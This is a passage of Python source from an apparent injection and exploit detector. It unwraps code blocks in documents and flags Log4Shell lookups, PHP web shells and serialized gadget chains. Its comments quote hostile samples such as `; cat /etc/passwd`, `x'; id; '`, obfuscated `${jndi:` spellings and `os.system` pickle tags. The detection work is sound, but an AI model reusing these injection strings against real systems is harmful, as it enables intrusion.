    `' a b | sed '/b/d'`). A command line shown whole in a sentence chains its commands
    ("To fix: sudo systemctl restart nginx && tail -f /var/log/nginx/error.log"); a
    sentence's words chain none."""
    if _LINE_COMMAND.match(text, line, at) or _SYNTAX_BEFORE.search(text, line, at):
        return True
    return any(name.group(1) not in _WORDLIKE for name in _NAME_BEFORE.finditer(text, line, at))


def _capitalised(written: str, name: str) -> bool:
    """Whether `written` opens with command `name` capitalised as a sentence's first word
    is (`Make`, not `make` or `MAKE`)."""
    start = written.lstrip()[: len(name)]
    return start[:1].isupper() and start[1:] == name[1:] and start.lower() == name


def _arguments_end(tail: str) -> bool:
    """Whether `tail` is a command's arguments as only a shell reads them, to the end of its
    line or the next separator: options, paths, redirections (and numbers and quoted
    strings), after one word at most (`; ls -la`, `; perl -e 'print 1'`, `; echo pwned >
    /tmp/x`, `& type c:\\windows\\win.ini`). After a sentence's words, such a command is
    spliced into whatever takes the value; a sentence goes on in words ("; ls -la shows
    it"), and numbers and quotations alone are its own ("; top 10", "; type 'yes'")."""
    at = words = 0
    shell = False
    while True:
        argument = _ARGUMENT.match(tail, at)
        if argument is None:
            break
        if argument.group(1):
            shell = True
        elif argument.group(3):
            words += 1
            if shell or words > 1:
                return False
        at = argument.end()
    return shell and _ARGUMENTS_DONE.match(tail, at) is not None


class _LineQuotes:
    """Whether a position of `text` lies between two double quotes of its line, asked of
    positions in order (`_command`'s matches): a line's quotes are counted on from the
    position asked before, and the next quote is looked for once. Counted from the line's
    start for each, 64 KB of one line took a tenth of a second."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.start = self.end = -1  # the line of the position asked before
        self.counted = self.quotes = 0  # double quotes from the line's start to `counted`
        self.next = -1  # the first double quote at or after `counted`, or the line's end

    def around(self, at: int) -> bool:
        text = self.text
        if not self.start <= at <= self.end or at < self.counted:
            self.start = text.rfind("\n", 0, at) + 1
            end = text.find("\n", at)
            self.end = len(text) if end < 0 else end
            self.counted, self.quotes, self.next = self.start, 0, -1
        self.quotes += text.count('"', self.counted, at)
        self.counted = at
        if self.next < at:
            found = text.find('"', at, self.end)
            self.next = self.end if found < 0 else found
        return self.quotes % 2 == 1 and self.next < self.end


_CURLY_QUOTES: Final = (("\u2018", "\u2019"), ("\u201c", "\u201d"))
_QUOTATION_REACH: Final = 200  # characters a quotation spans at most on either side


def _curly_quoted(text: str, at: int) -> bool:
    """Whether `at` lies in a typographic quotation on its line (‘…’, “…”), which no shell
    reads as a quote: "the shell command ‘sed '/^...$/d' | grep -q X’ can cause ‘grep’"."""
    start, end = _reach(text, at, _QUOTATION_REACH)
    for opening, closing in _CURLY_QUOTES:
        opened = text.rfind(opening, start, at)
        if opened >= 0 and text.find(closing, opened + 1, at) < 0 and closing in text[at:end]:
            return True
    return False


# A quotation in single quotes that opens with a word after a blank and closes before one,
# as manuals quote a command line ("runs 'perl Makefile.PL; make ;make test' in that
# subdirectory"); a quote glued to a word, or one a separator follows, breaks out of a
# string instead (`x'; id; '`).
_SINGLE_QUOTATION: Final = re.compile(r"(?<![\w'])'[a-z][^'\n]{0,200}'(?![\w'])")


def _single_quoted(text: str, at: int) -> bool:
    """Whether `at` lies in a quotation in single quotes on its line (`_SINGLE_QUOTATION`)."""
    return any(
        quotation.start() < at < quotation.end()
        for quotation in _SINGLE_QUOTATION.finditer(text, *_reach(text, at, _QUOTATION_REACH))
    )


def _escaped(text: str, at: int) -> bool:
    """Whether a backslash escapes the character at `at` (an odd number of them before it)."""
    start = at
    while start > 0 and text[start - 1] == "\\":
        start -= 1
    return (at - start) % 2 == 1


def _inline_commands(text: str) -> Iterator[re.Match[str]]:
    """The matches of `_COMMAND` in `text` that no line break starts. In prose and in a
    document a line that starts with a command is a line of the text (`_command`), yet the
    command names tried after each of the 1,700 line breaks of a manual page took 3 ms: here
    they are tried only after the other separators, which a character class finds."""
    end = 0
    for separator in _INLINE_SEPARATOR_CHAR.finditer(text):
        if separator.start() >= end:
            found = _COMMAND.match(text, separator.start())
            if found:
                end = found.end()
                yield found


# A Markdown code fence: three backticks or tildes on a line of their own (a CR before its
# end, as a browser sends a text area's lines), with the name of a language or none. A
# shell reads ``` as an empty substitution and one opening, and the fence's language as
# the command it runs (```python, then `import x as y` on the next line); a fence whose
# word is no language (```id) is left to be read so.
_FENCE: Final = re.compile(
    r"^[ \t]*(?:`{3,}|~{3,})[ \t]*(?:(?:python3?|py|pycon|javascript|js|jsx|mjs|cjs|typescript|ts"
    r"|tsx|mts|cts|coffee|json5?|jsonc|jsonl|ndjson|ya?ml|toml|ini|cfg|conf|properties|xml"
    r"|xhtml|svg|html|css|scss|sass|less|stylus|sql|mysql|pgsql|postgresql|plsql|tsql|go|golang"
    r"|rust|rs|java|kotlin|kt|groovy|gradle|swift|objc|c|cpp|c\+\+|cs|csharp|fsharp|vb|vbnet"
    r"|ruby|rb|erb|php|perl|pl|lua|r|scala|dart|elixir|erlang|haskell|ocaml|clojure|julia|zig"
    r"|solidity|proto|protobuf|text|txt|plaintext|markdown|md|diff|patch|console|shell|sh"
    r"|shell-session|sh-session|bash|zsh|fish|powershell|pwsh|ps1|bat|batch|dockerfile|makefile"
    r"|cmake|graphql|hcl|terraform|nginx|apache|http|jinja2?|twig|handlebars|hbs|mustache|ejs"
    r"|pug|liquid|svelte|vue|csv|log|output|env|dotenv|regex|mermaid|plantuml)"
    r"(?:[ \t]+[^`\n]*)?)?[ \t]*\r?$",
    re.M,
)


# Markup no shell runs, past a text's first line (the one an application may splice into
# its own command line): reStructuredText's explicit markup (`.. code-block:: bash`, a
# link target), table rows and borders (a line that opens with a pipe or `+--` is a
# syntax error to a shell).
# (From the line break, which `re` skips to, and which stays.)
_MARKUP: Final = re.compile(r"\n[ \t]*(?:\.\.[ \t]+\S|\||\+[-=])[^\n]*")
# The first line too when it is a table's row, a pipe at each end, and a row follows it:
# a pipeline that ends with a pipe goes on into the next line, where a pipe opening it is
# a syntax error, so that nothing of it runs (`| ID | Name |\n|----|------|`; its lines
# broken by CRLF too, as a text area's are).
_FIRST_ROW: Final = re.compile(r"[ \t]*\|[^\n]*\|[ \t]*\r?(?=\n[ \t\r\n]*\|)")
# A table's row as a clause of its own, a pipe at each end and no comment to hide the last
# one: a pipeline a shell cannot parse (``| `cat file` | print file |``).
_TABLE_ROW: Final = re.compile(r"\s*\|[^#\n]*\|\s*")
# A table as psql and its likes print one in a document: a row of names, a border of dashes
# crossed by `+` under it, rows of cells between pipes (`64001 | mysql | mysql-server`,
# base-passwd's README): columns, not a pipeline.
_ALIGNED_TABLE: Final = re.compile(
    r"\n[^\n|]*\|[^\n]*\n[ \t]*-+(?:\+-+)+[ \t]*\r?(?:\n[^\n|]*\|[^\n]*)*"
)
# Inline code in a document, Markdown's `pip` and reStructuredText's ``/usr/bin/bash``.
_INLINE_LITERAL: Final = searchable(
    re.compile(r"``[^`\n]{1,200}``|(?<![`\w])`[^`\n]{1,60}`(?![`\w])")
)
# reStructuredText's references, `Open Collective`_ and `Install <https://…>`_, whose
# words are a link's, not a substitution's.
_REFERENCE: Final = re.compile(r"`[^`\n]{1,240}`_{1,2}(?!\w)")
# TeX's inline math in a document: $f(x) = y$, $[-1, 1]$, $p(A) \\times B$. Shell variables
# are glued to what follows them ($a$b) or followed by a space inside ($a $b).
_MATH: Final = searchable(
    re.compile(r"(?<![\w$\\])\$(?=[^\s$])[^$\n]{1,80}(?<=[^\s$\\])\$(?![\w$])")
)
# Sphinx's roles name what they mark up: :mod:`sqlite3` is a module, not a substitution.
_ROLE: Final = searchable(
    re.compile(
        r"(?<![\w:]):(?:py:|c:|js:|std:)?(?:mod|func|meth|class|exc|attr|data|const|obj|ref|doc"
        r"|term|program|option|envvar|file|command|kbd|samp|pep|rfc|issue|gh|source|keyword"
        r"|member|macro|type|var|manpage|abbr|dfn|guilabel|menuselection|mimetype|regexp):`"
        r"[^`\n]{1,120}`"
    )
)


# The marks that open a Markdown blockquote's lines, which may hold a fenced block.
_QUOTE_MARKS: Final = re.compile(r"^[ \t]*(?:>[ \t]?)+", re.M)
# Markdown's link whose text is inline code: a list of commands' pages, not substitution.
_CODE_LINK: Final = re.compile(r"\[`[^`\n]{1,80}`\]\(")
_INDENTED_BLOCK: Final = re.compile(r"\n[ \t]*\n((?:  |\t)[^\n]*(?:\n(?:  |\t)[^\n]*)*)")
# (Its last line may end the text: a form trims what follows a message's last block.)
_LITERAL_BLOCK: Final = re.compile(r"::[ \t]*\n(?:[ \t]*\n)+((?:[ \t]+[^\n]*(?:\n|\Z)|\n){1,200})")
# Words of prose around a document's code blocks: a README, a post, an answer; and the
# sentence that introduces an indented block in a shorter text.
_PROSE_AROUND: Final = 30
_SENTENCE_AROUND: Final = 5
# And the word outside a fenced block in a message: "Try:", then the block.
_WORD_AROUND: Final = 1
# What no example's code opens with: a separator, or a backquote.
_NO_EXAMPLE_OPENING: Final = (*_OPENING_SEPARATORS, "`")


# A block of code whose fences are glued to it on its one line, as Slack's and Discord's
# messages write one: ```uname -a```.
_GLUED_FENCE: Final = re.compile(r"```(?=[^`\s])[^`\n]{1,2000}```")


# Jira's and Confluence's wiki markup for a block of code, `{code:bash}` … `{code}`, and
# of preformatted text, `{noformat}`: Markdown's fences in another spelling.
_WIKI_FENCE: Final = re.compile(
    r"^([ \t]*)\{(?:code(?::[^}\n]{0,80})?|noformat(?::[^}\n]{0,80})?)\}(?=[ \t]*$)", re.M
)


def _fenced(fence: re.Match[str]) -> str:
    """A wiki's fence as Markdown's, of the same length."""
    return fence.group(1) + "```".ljust(len(fence.group(0)) - len(fence.group(1)))


# Rich text's blocks of code: HTML's preformatted element (`<pre><code
# class="language-bash">` … `</code></pre>`, as editors, forums and help centres send it),
# in Confluence's storage format, as its REST API takes a page, a code or noformat macro's
# body in CDATA (`<ac:plain-text-body><![CDATA[` … `]]>`), a forum's BBCode (`[code]`,
# `[code=bash]`), MediaWiki's `<syntaxhighlight lang="bash">` and Org's `#+begin_src`:
# Markdown's fenced blocks in other spellings. (Found by `find`: a lazy pattern reading on
# to a closing tag from every opening one read 64 KB of them again for each.)
_CODE_ELEMENTS: Final = (
    ("<pre", ">", "</pre>"),
    ("<ac:plain-text-body>", "[cdata[", "]]>"),
    ("[code", "]", "[/code]"),
    ("<syntaxhighlight", ">", "</syntaxhighlight>"),
    # MediaWiki's older `<source lang="bash">`, and DokuWiki's `<code bash>` (HTML's
    # `<code>` too, which closes alike).
    ("<source", ">", "</source>"),
    ("<code", ">", "</code>"),
    ("#+begin_src", "\n", "#+end_src"),
    # Hugo's and Jekyll's highlighted blocks, in a static site's Markdown.
    ("{{< highlight", ">}}", "{{< /highlight"),
    ("{% highlight", "%}", "{% endhighlight"),
)


# A tag around or in a code element: no word of the text outside, and no start of the
# code it opens (`<pre><code class="language-bash">curl …`).
_ELEMENT_TAG: Final = re.compile(r"<[^<>\n]{0,300}>")
_ELEMENT_TAGS: Final = re.compile(r"(?:\s*<[^<>\n]{0,300}>)*\s*")


def _holds_code_element(lower: str) -> bool:
    """Whether `lower` opens one of `_CODE_ELEMENTS`."""
    return any(opener in lower for opener, _, _ in _CODE_ELEMENTS)


def _code_elements_blanked(lower: str) -> str:
    """`lower` with what its code elements hold (`_CODE_ELEMENTS`) blanked, character for
    character, as Markdown's fenced blocks are: all of them when the text outside the
    elements holds `_PROSE_AROUND` words, those whose code opens with no separator when it
    holds a word of its own (a chat's "Run this:", a short page's title); else `lower` as
    it is."""
    # Each element's code, and the element whole with its opening and closing marks.
    spans: list[tuple[int, int, int, int]] = []
    for opener, opened, closer in _CODE_ELEMENTS:
        at = lower.find(opener)
        while at >= 0:
            after = at + len(opener)
            if opener[-1].isalpha() and lower[after : after + 1].isalnum():
                at = lower.find(opener, after)  # another name: <preview>, [codes]
                continue
            start = lower.find(opened, after)
            end = lower.find(closer, start) if start >= 0 else -1
            if end < 0:
                break
            spans.append((start + len(opened), end, at, end + len(closer)))
            at = lower.find(opener, end)
    if not spans:
        return lower
    spans.sort()
    outside: list[str] = []
    kept = 0
    for _, _, opening, closed in spans:
        outside.append(lower[kept:opening])
        kept = max(kept, closed)
    outside.append(lower[kept:])
    # (Its words, not its tags' names: `<p>` around "Run this:" is none.)
    text = _ELEMENT_TAG.sub(" ", " ".join(outside))
    words = sum(1 for _ in islice(PLAIN_WORD.finditer(text), _PROSE_AROUND))
    if words < _WORD_AROUND:
        return lower
    pieces: list[str] = []
    kept = 0
    for start, end, _, _ in spans:
        # The code, past the tags that open it (`<pre><code class="language-bash">`).
        opening_tags = _ELEMENT_TAGS.match(lower, start)
        code = lower[opening_tags.end() if opening_tags else start : end]
        example = words >= _PROSE_AROUND or not code.startswith(_NO_EXAMPLE_OPENING)
        if start >= kept and example:
            pieces += (lower[kept:start], _FILLER * (end - start))
            kept = end
    pieces.append(lower[kept:])
    return "".join(pieces)


# A dot that opens a line or a statement before a word with a capital in it: troff's
# macros (`.SH NAME`, mdoc's `.Sh`, a man page's source), not the SQLite shell's
# dot-commands, which it reads in lower case only (`.SH echo x` is an "unknown command").
# The separator opens the match, so that `re` skips to it; the dot ends it.
_CASED_DOT: Final = re.compile(r"[;\n][ \t]*\.(?=[a-z]*[A-Z])")


def _cased_dots_blanked(written: str, lower: str) -> str:
    """`lower` with each dot `written` opens a cased word with (`_CASED_DOT`) made a byte
    no rule reads, character for character."""
    pieces = []
    kept = 0
    for found in _CASED_DOT.finditer(written):
        dot = found.end() - 1
        pieces.append(lower[kept:dot])
        pieces.append("\x01")
        kept = dot + 1
    if not pieces:
        return lower
    pieces.append(lower[kept:])
    return "".join(pieces)


# Rich text's line breaks at Markdown's fences: a fence typed in an editor that writes
# each line as a paragraph, or breaks the lines of one (`<p>```bash</p><p>npm ci</p><p>```
# </p>`, `<p>```bash<br>npm ci<br>```</p>`), on a line of its own as a text's would be.
# Each fence's tags are looked at from it, a few at most (a pattern that found a run of
# tags anywhere and then looked for a fence after it read the run again from each of its
# tags: 64 KB of them took seconds); the first fences only.
_RICH_TAG: Final = r"(?:<br\s*/?>|</(?:p|div)>|<(?:p|div)(?:\s[^<>\n]{0,80})?>)"
_RICH_TAG_WHOLE: Final = re.compile(_RICH_TAG)
_TAGS_AFTER_FENCE: Final = re.compile(rf"[\w+.-]{{0,20}}({_RICH_TAG}{{1,4}})")
_TAG_CHARS: Final = 96  # the longest tag of `_RICH_TAG`, and some
RICH_TAGS: Final = 4  # tags read on either side of a fence
RICH_FENCES: Final = 64  # fences whose tags are read


def _line_break(tags: str) -> str:
    """`tags` as a line break, character for character."""
    return " " * (len(tags) - 1) + "\n"


def _tags_before(lower: str, at: int, floor: int) -> int:
    """Where the run of rich text's tags (`_RICH_TAG`) that ends at `at` starts, no
    further back than `floor`: `at` when none ends there."""
    start = at
    for _ in range(RICH_TAGS):
        opening = lower.rfind("<", max(floor, start - _TAG_CHARS), start)
        if opening < 0 or _RICH_TAG_WHOLE.fullmatch(lower, opening, start) is None:
            break
        start = opening
    return start


def _rich_fences_broken(lower: str) -> str:
    """`lower` with the tags around its first fences (`RICH_FENCES`) read as line breaks:
    those that end right before a fence, and those after one and the language it names."""
    pieces: list[str] = []
    kept = 0
    at = lower.find("```")
    for _ in range(RICH_FENCES):
        if at < 0:
            break
        start = _tags_before(lower, at, kept)
        if start < at:
            pieces += (lower[kept:start], _line_break(lower[start:at]))
            kept = at
        end = at + 3
        while lower[end : end + 1] == "`":
            end += 1
        after = _TAGS_AFTER_FENCE.match(lower, end)
        if after is not None:
            pieces += (lower[kept : after.start(1)], _line_break(after.group(1)))
            kept = after.end(1)
        at = lower.find("```", max(end, kept))
    if not pieces:
        return lower
    pieces.append(lower[kept:])
    return "".join(pieces)


def _unmarked(lower: str, document: bool) -> str:
    """`lower` with its Markdown code fences and, in a text of several lines (a document),
    its markup blanked, character for character. In a document with prose around them,
    the commands in fenced blocks are its examples (`pip install …`, `curl … | sh`)."""
    if "{code" in lower or "{noformat" in lower:
        lower = _WIKI_FENCE.sub(_fenced, lower)
    if _holds_code_element(lower):
        lower = _code_elements_blanked(lower)
    if "> ```" in lower or "> ~~~" in lower:
        lower = _QUOTE_MARKS.sub(blanked, lower)  # a blockquote's lines: `> ```bash`, `> x`
    if "```" in lower or "~~~" in lower or "[source" in lower:
        # A document's fenced blocks (or AsciiDoc's listings); a message's, with a word of
        # its own outside: "Try:", then the block (`uname -a`, `rm -rf node_modules && npm
        # install`); an issue's comment, a chat's message, a document whose words are
        # mostly its code's. A shell would run what a fence holds, but no payload is
        # written as Markdown; one that opens with a separator counts still. Slack's and
        # Discord's block on one line, its fences glued to its code ("Run this:⏎```curl
        # -fsSL https://get.example.com | sh```"), is one too.
        if "<" in lower:
            lower = _rich_fences_broken(lower)
        lower = _shown_blocks_blanked(FENCED_BLOCK, lower, _filled, _filled_example, _WORD_AROUND)
        lower = _examples_blanked(_GLUED_FENCE, lower, _filled_glued_example, _WORD_AROUND)
        lower = _FENCE.sub(blanked, lower)
    if "::\n" in lower or ":: \n" in lower:  # (a text area's CRLF read as " \n")
        # reStructuredText's literal blocks: "Run the following command::", then indented
        # lines; in a shorter text, after a sentence of its own, as an indented block's.
        lower = _shown_blocks_blanked(
            _LITERAL_BLOCK, lower, _blank_block, _blank_example, _SENTENCE_AROUND
        )
    if ":`" in lower:
        lower = _ROLE.sub(blanked, lower)  # :mod:`sqlite3`, :meth:`unittest.makeSuite`
    if "\n" not in lower:
        return lower
    if ("\n\n" in lower or "\n \n" in lower) and (document or several_lines(lower)):
        # Indented paragraphs, POD's verbatim ones and Markdown's code blocks: "The example
        # below illustrates this", then `    $ echo abc | gzip -c >x.gz`. A text too short
        # to be a document shows them after a sentence of its own ("The following
        # examples are equivalent:"); an injection's line is neither set apart by an empty
        # line nor indented.
        if document:
            lower = _shown_blocks_blanked(
                _INDENTED_BLOCK, lower, _blank_block, _blank_example, _SENTENCE_AROUND
            )
        else:
            lower = _examples_blanked(_INDENTED_BLOCK, lower, _blank_example, _SENTENCE_AROUND)
    if lower.lstrip(" \t")[:1] == "|":
        row = _FIRST_ROW.match(lower)
        if row is not None:
            lower = blanked(row) + lower[row.end() :]
    lower = _MARKUP.sub(_blank_line, lower)
    if document and "-+-" in lower:
        lower = _ALIGNED_TABLE.sub(_blank_lines, lower)
    if "`](" in lower:
        lower = _CODE_LINK.sub(blanked, lower)  # * [`npm pack`](/commands/npm-pack)
    if "`_" in lower:
        lower = _REFERENCE.sub(_blank_reference, lower)
    if "`" in lower and document:
        # Inline code in a document: `pip`, ``/usr/local/bin/bash``.
        lower = _INLINE_LITERAL.sub(blanked, lower)
    if "$" in lower and document:
        lower = _MATH.sub(blanked, lower)  # "the equation $f(x) = y$", "on $[-1, 1]$"
    return lower


# A text of a line or a few with more dollars than this is no mathematical sentence: its
# spans are not looked for (in a megabyte of punctuation, 4 ms).
_MATH_DOLLARS: Final = 64


def _unmathed(lower: str) -> str:
    """`lower` with TeX's inline math blanked, character for character, when it holds two
    spans of it or more, each free of a shell's separators and opened by no substitution:
    "for all $n$; find $k$ such that $n = 2k$" is a sentence. (A document's are blanked
    whatever they hold, `_unmarked`.) A command's variable is glued to what follows it
    (`cat $x$y`) or stands alone, and `$(id)$` runs `id`."""
    spans = [
        math.span()
        for math in _MATH.finditer(lower)
        if math.group()[1] not in "({" and not any(char in math.group() for char in ";|&`")
    ]
    if len(spans) < 2:
        return lower
    pieces: list[str] = []
    last = 0
    for start, end in spans:
        pieces += (lower[last:start], " " * (end - start))
        last = end
    pieces.append(lower[last:])
    return "".join(pieces)


def _examples_blanked(
    blocks: re.Pattern[str],
    lower: str,
    blank: Callable[[re.Match[str]], str],
    around: int = _PROSE_AROUND,
) -> str:
    """`lower` with the code blocks `blocks` finds blanked by `blank`, when what is left
    outside them holds `around` words (counted until there are enough, not through 64 KB
    of them); else `lower` as it is."""
    outside = blocks.sub(" ", lower)
    if outside == lower:
        return lower
    words = sum(1 for _ in islice(PLAIN_WORD.finditer(outside), around))
    return blocks.sub(blank, lower) if words >= around else lower


def _shown_blocks_blanked(
    blocks: re.Pattern[str],
    lower: str,
    blank: Callable[[re.Match[str]], str],
    example: Callable[[re.Match[str]], str],
    around: int,
) -> str:
    """`lower` with its code blocks `blocks` finds blanked: all of them by `blank` among
    the words of a document (`_PROSE_AROUND`), or else by `example` (which keeps a block
    that opens with a separator) among fewer words, `around`, as a text too short to be a
    document shows its examples (a question of a few lines ending with a block: "Export
    the revisions::", then `echo SYNC: $(git rev-parse HEAD)`)."""
    shown = _examples_blanked(blocks, lower, blank)
    if shown is lower:
        shown = _examples_blanked(blocks, lower, example, around)
    return shown


# What a block of code shown is blanked with, character for character: no rule reads it.
# Spaces as many as a block has characters would be read by every `\s*` from every place
# among them (an indented page of code made one rule take six times as long).
_FILLER: Final = "\x01"


def _blank_block(block: re.Match[str]) -> str:
    return block.group(0)[: block.start(1) - block.start()] + _FILLER * len(block.group(1))


def _blank_example(block: re.Match[str]) -> str:
    """An indented block blanked as an example (`_blank_block`), unless it opens with a
    separator: a manual shows a command, not `; cat /etc/passwd`."""
    if block.group(1).lstrip().startswith(_NO_EXAMPLE_OPENING):
        return block.group(0)
    return _blank_block(block)


def _filled(block: re.Match[str]) -> str:
    return _FILLER * len(block.group(0))


def _filled_glued_example(block: re.Match[str]) -> str:
    """A block on one line blanked (`_filled`), unless its code opens with a separator or
    a backquote (`_filled_example`)."""
    code = block.group(0)[3:-3].lstrip()
    return block.group(0) if code.startswith(_NO_EXAMPLE_OPENING) else _filled(block)


def _filled_example(block: re.Match[str]) -> str:
    """A fenced block blanked (`_filled`), unless its code opens with a separator or a
    backquote, as an example's does not (`_blank_example`)."""
    code = block.group(0).partition("\n")[2].lstrip()
    return block.group(0) if code.startswith(_NO_EXAMPLE_OPENING) else _filled(block)


def _blank_line(line: re.Match[str]) -> str:
    return "\n" + " " * (len(line.group(0)) - 1)


def _blank_lines(lines: re.Match[str]) -> str:
    return "\n".join(" " * len(line) for line in lines.group(0).split("\n"))


def _blank_reference(reference: re.Match[str]) -> str:
    text = reference.group(0)
    if " " not in text and "<" not in text and "\t" not in text:
        return text  # `id`_: one word, which may as well be a command
    return " " * len(text)


# A log4j lookup whose name a nested one starts or cuts, as its WAF bypasses spell JNDI:
# ${${::-j}ndi…}, ${j${lower:Nd}i${upper::}ldap…}, ${jnd${x:-${y:-i:}}ldap…}. Not a shell's
# default of a default, ${x:-${y}}.
_NESTED_LOOKUP: Final = re.compile(r"\$\{[a-z]{0,4}\$\{")
# An innermost lookup, not JNDI's own, and what it yields: its argument (lower, upper), a
# date pattern's quoted text, its default (`:-`), or nothing (an unset variable).
_LOOKUP: Final = re.compile(r"\$\{(?!\s*jndi\s*:)([^${}]{0,80})\}")
_LOOKUP_VALUE: Final = re.compile(
    r"\s*(?:lower|upper)\s*:(.*)|\s*date\s*:\s*'([^']*)'|.*?:-(.*)", re.S
)
_JNDI: Final = re.compile(r"\$\{\s*jndi\s*:")
_JNDI_PROTOCOL: Final = re.compile(_JNDI_NAMED)
_LOOKUP_PASSES: Final = 8  # levels of nesting resolved
_LOOKUP_WINDOW: Final = 512  # characters resolved from each such lookup
_LOOKUP_WINDOWS: Final = 32  # of a value, at most


def _lookup_value(lookup: re.Match[str]) -> str:
    value = _LOOKUP_VALUE.match(lookup.group(1))
    if value is None:
        return ""
    return next((group for group in value.groups() if group is not None), "")


def _anywhere(lower: str) -> Match | None:
    """What runs wherever it stands in a text, found before any code shown in it is blanked
    (inline code, an indented example, TeX's math): a JNDI lookup that names its protocol
    or that nested lookups spell (`_resolved_jndi`), which Log4j resolves wherever the
    message it logs holds one; a PHP web shell, which runs wherever the file an upload or
    a poisoned log made holds it."""
    if "<?" in lower:
        assert R_WEB_SHELL.pattern is not None
        shell = R_WEB_SHELL.pattern.search(lower)
        if shell:
            return Match(R_WEB_SHELL, shell.start(), shell.end())
    if "{" not in lower:
        return None
    named = _JNDI_PROTOCOL.search(lower)
    if named:
        start = named.start()
        if lower[start - 1 : start] == "$":
            start -= 1  # shown from the `$` that opens the lookup
        return Match(R_LOG4SHELL, start, min(named.end() + 40, len(lower)))
    return _resolved_jndi(lower) if "${" in lower else None


def _resolved_jndi(lower: str) -> Match | None:
    """A JNDI lookup that nested lookups spell only once log4j resolves them, innermost
    first (the rule's patterns read the spelling): the text from each `_NESTED_LOOKUP`, a
    window at a time, the windows apart and bounded in number."""
    end = windows = 0
    for nested in _NESTED_LOOKUP.finditer(lower):
        if nested.start() < end:
            continue
        end = nested.start() + _LOOKUP_WINDOW
        text = lower[nested.start() : end]
        for _ in range(_LOOKUP_PASSES):
            resolved = _LOOKUP.sub(_lookup_value, text)
            if resolved == text:
                break
            text = resolved
        if _JNDI.search(text):
            return Match(R_LOG4SHELL, nested.start(), min(nested.start() + 80, len(lower)))
        windows += 1
        if windows == _LOOKUP_WINDOWS:
            break
    return None


def _marshal_gadget(text: str) -> Match | None:
    """A Rails gadget chain in Ruby's Marshal in base64 (`BAhbCGMVR2VtOjpTcGVj…`): a
    cookie or a field the application loads builds the objects it names."""
    for token in islice(_MARSHAL.finditer(text), 8):
        encoded = token.group(0)
        try:
            raw = base64.urlsafe_b64decode(
                encoded.replace("+", "-").replace("/", "_") + "=" * (-len(encoded) % 4)
            )
        except (binascii.Error, ValueError):
            continue
        if raw[:2] == b"\x04\x08" and _MARSHAL_GADGET.search(raw.decode("latin-1").lower()):
            return Match(R_SERIALIZED, token.start(), min(token.end(), token.start() + 80))
    return None


def _view_state_gadget(text: str) -> Match | None:
    """A ViewState that is a BinaryFormatter stream naming a class of .NET's gadget chains
    (`/wEy…` of ysoserial.net's TextFormattingRunProperties, TypeConfuseDelegate…): a page
    that does not check the ViewState's MAC builds them."""
    for token in islice(_VIEW_STATE.finditer(text), 8):
        encoded = token.group(0)
        try:
            raw = base64.b64decode(encoded + "=" * (-len(encoded) % 4))
        except (binascii.Error, ValueError):
            continue
        if _BINARY_FORMATTER in raw[:16] and _DOTNET_GADGET.search(raw.decode("latin-1").lower()):
            return Match(R_SERIALIZED, token.start(), min(token.end(), token.start() + 80))
    return None


# Keys of Yii's configuration of an object that call a method: its constructor's arguments,
# and the methods Guzzle's FnStream calls when it is closed or destroyed; Wazuh's key of an
# exception its API rebuilds from a class and arguments it is sent (CVE-2025-24016).
_CONFIGURED_CALLS: Final = frozenset(
    ("__construct()", "_fn_close", "_fn___tostring", "__unhandled_exc__")
)
# A query's name that is a long option: no form names a field so, and a script run with
# PHP's register_argc_argv reads the query string as its command line.
_LONG_OPTION: Final = re.compile(r"--[a-z][\w.-]*")


# A CI workflow's expression (GitHub's, Gitea's, Forgejo's): `${{ matrix.os == 'windows'
# && 'pwsh' || 'bash' }}` picks a shell and pipes nothing. A shell reads it as one word, a
# bad substitution, whatever its operators; blanked (the same length), what surrounds it
# counts as before.
_WORKFLOW_EXPRESSION: Final = re.compile(r"\$\{\{[^{}\n]{1,500}\}\}")


def confirm(view: View) -> Match | None:
    lower = view.lower
    found = _anywhere(lower)
    if found:
        return found
    if view.area == "post" and "\r\n" in lower and lower.count("\r") == lower.count("\r\n"):
        # A text area's lines, which a browser sends broken by CRLF: read as the same text
        # broken by LF alone, character for character (a CR alone still counts).
        lower = lower.replace("\r\n", " \n")
    sent = lower
    if (
        "\n" in lower
        or "```" in lower
        or "~~~" in lower
        or "[source" in lower
        or ":`" in lower
        or _holds_code_element(lower)
    ):
        lower = _unmarked(lower, view.document)
    if ("\n." in lower or ";." in lower) and len(view.text) == len(lower):
        lower = _cased_dots_blanked(view.text, lower)
    if view.is_key and view.point.startswith("query."):
        if _LONG_OPTION.fullmatch(lower):
            return Match(R_ARGUMENTS, 0, len(lower))  # ?--templatesPath=…
        if lower in _LOADING_VARIABLES:
            return Match(R_ENVIRONMENT, 0, len(lower))  # ?PHPRC=/dev/fd/0
    if view.is_key and lower == "prototype" and view.point.endswith(".constructor.prototype.@key"):
        return Match(R_PROTOTYPE, 0, len(lower))  # {"constructor": {"prototype": {…}}}
    if view.is_key and lower in _CONFIGURED_CALLS:
        return Match(R_SERIALIZED, 0, len(lower))  # Yii: {"class": …, "__construct()": […]}
    if view.point.endswith(".$type") and _DOTNET_TYPE.match(lower):
        return Match(R_SERIALIZED, 0, len(lower))  # Json.NET: {"$type": "System.…"}
    if view.point.endswith(_PICKLED_TAGS) and _PICKLED_NAME.match(lower):
        return Match(R_SERIALIZED, 0, len(lower))  # jsonpickle: {"py/function": "os.system"}
    if view.point == "header.USER-AGENT" and _CLIENT_AGENT.fullmatch(lower):
        return None
    if not view.document and 4 <= lower.count("$") <= _MATH_DOLLARS:
        lower = _unmathed(lower)
    if "${{" in lower:
        lower = _WORKFLOW_EXPRESSION.sub(blanked, lower)
    present = view.tokens()
    if not present.isdisjoint(_TAB_SEPARATORS):
        lower = lower.replace("\t", " ")  # rules spell `net user` with a space
        present = view.tokens(lower, TYPE)
    if not present.isdisjoint(_PICKLE_TOKENS):
        pickled = _PICKLE.search(view.text)
        if pickled:
            return Match(R_SERIALIZED, pickled.start(), min(pickled.end() + 40, len(lower)))
    if not present.isdisjoint(_MARSHAL_TOKENS):
        found = _marshal_gadget(view.text)
        if found:
            return found
    if not present.isdisjoint(_VIEW_STATE_TOKENS):
        found = _view_state_gadget(view.text)
        if found:
            return found
    if _FILE_POINT.search(view.point):
        found = _FILE_RULES.search(lower, present)
        if found:
            return found
    # The rules a text may break: fewer in prose and in a document (`_DOCUMENT_RULES`).
    # A snippet of a few lines opens its anonymous functions as a document does
    # (`get: function () {` in a class's property); an injection's opens a value.
    several = several_lines(lower)
    # A script sent whole on one line, minified (a bundle, a widget's code): its functions
    # open as a document's do; what they call is judged as anywhere.
    shown = view.document or several or minified(lower)
